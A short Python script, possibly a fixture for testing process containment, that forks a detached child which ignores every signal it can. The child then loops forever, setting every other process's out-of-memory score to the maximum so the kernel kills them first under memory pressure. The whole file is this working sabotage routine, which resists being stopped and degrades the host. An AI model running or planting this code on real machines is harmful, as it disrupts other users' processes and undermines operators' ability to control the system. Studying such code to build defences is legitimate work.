# SPDX-License-Identifier: MIT
"""Leaves a child that lives on, deaf to signals, and writes to whatever there is."""
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(0.01)
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in (os.getpid(), 1):
                try:
                    with open(f"/proc/{pid}/oom_score_adj", "w") as f:
                        f.write("1000")
                except OSError:
                    pass
